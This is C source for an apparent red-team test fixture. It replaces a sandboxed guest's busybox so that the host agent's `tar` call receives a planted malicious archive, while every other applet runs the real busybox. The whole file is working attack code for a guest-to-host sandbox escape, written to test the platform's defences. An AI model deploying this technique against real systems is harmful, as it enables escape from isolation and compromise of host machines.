/* Red team F39: what guest root puts in place of the platform's busybox (the agent runs it by
 * descriptor, so overwriting the file's contents is enough). For the `tar` applet it answers
 * with a crafted archive the test planted in the sandbox; every other applet runs the real
 * busybox the test saved, so the host's file operations reach the tar step. */
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static const char *const TARS[] = {"/tmp/.evil.tar", "/view/tmp/.evil.tar",
                                   "/sandbox/tmp/.evil.tar"};
static const char *const REALS[] = {"/tmp/.real-bb", "/view/tmp/.real-bb",
                                    "/sandbox/tmp/.real-bb"};

int main(int argc, char **argv) {
    (void)argc;
    const char *name = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
    if (strcmp(name, "tar") == 0) {
        for (unsigned i = 0; i < sizeof TARS / sizeof *TARS; i++) {
            int fd = open(TARS[i], O_RDONLY);
            if (fd < 0)
                continue;
            char buf[65536];
            ssize_t n;
            while ((n = read(fd, buf, sizeof buf)) > 0)
                if (write(1, buf, (size_t)n) != n)
                    return 1;
            return 0;
        }
        return 2;
    }
    for (unsigned i = 0; i < sizeof REALS / sizeof *REALS; i++)
        execv(REALS[i], argv);
    return 127;
}
